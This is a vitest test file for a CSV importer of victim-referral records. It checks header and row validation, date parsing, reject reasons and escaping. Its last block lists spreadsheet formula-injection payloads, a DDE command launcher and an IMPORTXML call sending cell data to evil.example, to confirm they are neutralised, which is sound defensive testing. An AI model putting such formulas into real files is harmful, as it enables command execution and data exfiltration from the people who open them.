import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { csvLine, isoFromUkDate, openCsv, readHeader, REFERRAL_COLUMNS, rowFields } from './csv.js';
import { rejectReason } from './reasons.js';

async function read(text: string | Buffer) {
  const csv = await openCsv(Readable.from([Buffer.from(text)]), REFERRAL_COLUMNS);
  const rows = [];
  for await (const row of csv.rows) rows.push(row);
  return { header: csv.header, rows };
}

const problemOf = async (text: string | Buffer) =>
  read(text).then(
    () => undefined,
    (error: { messageKey: string; params?: unknown }) => ({
      key: error.messageKey,
      params: error.params,
    }),
  );

const HEADER = 'source_org,initiated_by,received_on,offence_group,cjs_stage,victim_surname';

describe('reading a referrals CSV', () => {
  it('numbers rows as a spreadsheet does: blank rows count, quoted line breaks do not', async () => {
    const { rows } = await read(
      `\uFEFF${HEADER}\r\na,b,c,d,e,"two\r\nlines"\r\n\r\n  ,,\nf,g,h,i,j,k\n`,
    );
    expect(rows).toEqual([
      { number: 2, values: ['a', 'b', 'c', 'd', 'e', 'two\r\nlines'] },
      { number: 5, values: ['f', 'g', 'h', 'i', 'j', 'k'] },
    ]);
  });

  it('reads column names up to case and surrounding spaces, in any order', () => {
    const header = readHeader([' Victim_Surname ', 'CJS_STAGE', ...HEADER.split(',').slice(0, 4)]);
    expect(header.fields).toEqual([
      'victim_surname',
      'cjs_stage',
      'source_org',
      'initiated_by',
      'received_on',
      'offence_group',
    ]);
  });

  it('reads past a reason column, so a corrected rejects file imports again', () => {
    expect(readHeader(['reason', ...HEADER.split(',')]).fields[0]).toBeNull();
    // A rejects file of a rejects file has two.
    expect(readHeader(['reason', 'reason', ...HEADER.split(',')]).fields[1]).toBeNull();
  });

  it('names what is wrong with a header', async () => {
    expect(await problemOf(`${HEADER},Nickname,colour\n`)).toEqual({
      key: 'imports.errors.unknownColumns',
      params: { columns: '"Nickname", "colour"' },
    });
    expect(await problemOf(`${HEADER},victim_surname\n`)).toMatchObject({
      key: 'imports.errors.repeatedColumn',
    });
    expect(await problemOf('source_org,victim_surname\n')).toEqual({
      key: 'imports.errors.missingColumns',
      params: { columns: 'initiated_by, received_on, cjs_stage' },
    });
    expect(await problemOf(HEADER.replace(',victim_surname', ''))).toMatchObject({
      key: 'imports.errors.noSurnameColumn',
    });
    expect(await problemOf('\n\r\n')).toMatchObject({ key: 'imports.errors.empty' });
  });

  it('refuses what is not UTF-8 text, and a quote never closed', async () => {
    expect(await problemOf(Buffer.from(`${HEADER}\nSi\xe2n\n`, 'latin1'))).toMatchObject({
      key: 'imports.errors.notUtf8',
    });
    expect(await problemOf(Buffer.from('PK\x03\x04 a workbook', 'latin1'))).toMatchObject({
      key: 'imports.errors.notCsv',
    });
    // A NUL byte far into the file, read in a later chunk than the header.
    const later = Readable.from([Buffer.from(`${HEADER}\na,b,c,d,e,f\n`), Buffer.from('g,\0\n')]);
    const rows = async () => {
      for await (const row of (await openCsv(later, REFERRAL_COLUMNS)).rows) void row;
    };
    await expect(rows()).rejects.toMatchObject({ messageKey: 'imports.errors.notCsv' });
    expect(await problemOf(`${HEADER}\na,b,c,d,e,f\na,b,c,d,e,"open\n`)).toEqual({
      key: 'imports.errors.quoteNotClosed',
      params: { row: 3 },
    });
  });
});

describe('a row of the file', () => {
  const header = readHeader(['', ...HEADER.split(','), 'offender_dob']);

  it('becomes fields, with DD/MM/YYYY dates read as YYYY-MM-DD', () => {
    const result = rowFields(header, {
      number: 2,
      values: ['', 'self', 'victim', '1/3/2026', 'robbery', 'custody', 'Evans', '31/02/1990'],
    });
    expect(result).toMatchObject({
      ok: true,
      fields: { received_on: '2026-03-01', offender_dob: '1990-02-31' },
      written: { received_on: '1/3/2026' },
    });
    expect(isoFromUkDate('2026-03-01')).toBe('2026-03-01');
    expect(isoFromUkDate('March 1st')).toBe('March 1st');
  });

  it('is rejected with its row number when its shape is wrong', () => {
    const tooMany = rowFields(header, { number: 9, values: Array(9).fill('x') });
    expect(!tooMany.ok && rejectReason(9, tooMany.problems)).toBe(
      'row 9: The row has 9 values but the first row names 8 columns: put a value that holds a comma in double quotes',
    );
    const unnamed = rowFields(header, { number: 4, values: ['oops', ...Array(7).fill('')] });
    expect(!unnamed.ok && rejectReason(4, unnamed.problems)).toBe(
      'row 4: There is a value in column 1, which has no name in the first row',
    );
  });

  it('gives every reason, with the value that was written', () => {
    expect(
      rejectReason(
        7,
        [
          { field: 'received_on', key: 'referrals.errors.date' },
          { field: 'cjs_stage', key: 'referrals.errors.cjsStage' },
          { field: 'initiated_by', key: 'referrals.errors.initiatedBy' },
        ],
        { received_on: '31/02/2026', cjs_stage: 'later', initiated_by: '' },
      ),
    ).toBe(
      'row 7: received_on: Enter a real date as YYYY-MM-DD or DD/MM/YYYY (not "31/02/2026"); ' +
        'cjs_stage: Enter one of not_reported, pre_charge, out_of_court, pre_sentence, community_sentence, custody, post_release, referral_order (not "later"); ' +
        'initiated_by: Enter a value',
    );
  });

  it('is written back as one CSV line, quoted where needed', () => {
    expect(csvLine(['a', 'b,c', 'say "hi"', 'two\nlines'])).toBe(
      'a,"b,c","say ""hi""","two\nlines"\r\n',
    );
  });
});

describe('formula cells in a rejects file', () => {
  const payloads = [
    "=cmd|' /C calc'!A0",
    '=IMPORTXML("http://evil.example/?"&A1,"//a")',
    '-2+3',
    '+44 7700 900123',
    '@SUM(A1:A2)',
    '\t=1+1',
    '\r=1+1',
  ];

  it.each(payloads)('writes %j so a spreadsheet shows it as text', (payload) => {
    const line = csvLine(['row 2: reason', payload]);
    const cell = line.slice('row 2: reason,'.length).replace(/^"/, '');
    expect(cell.startsWith("'")).toBe(true);
  });

  it('leaves ordinary values alone', () => {
    expect(csvLine(['Jo', "O'Brien", '2026-01-01'])).toBe("Jo,O'Brien,2026-01-01\r\n");
  });

  it('reads a neutralised cell back as it was first sent', async () => {
    const file = csvLine(['notes', 'victim_phone']) + csvLine(['=1+1', '+44 7700 900123']);
    const csv = await openCsv(Readable.from([Buffer.from(file)]), {
      read: (cells) => cells,
      emptyKey: 'imports.errors.empty',
    });
    const rows = [];
    for await (const row of csv.rows) rows.push(row);
    expect(rows[0]!.values).toEqual(['=1+1', '+44 7700 900123']);
  });
});
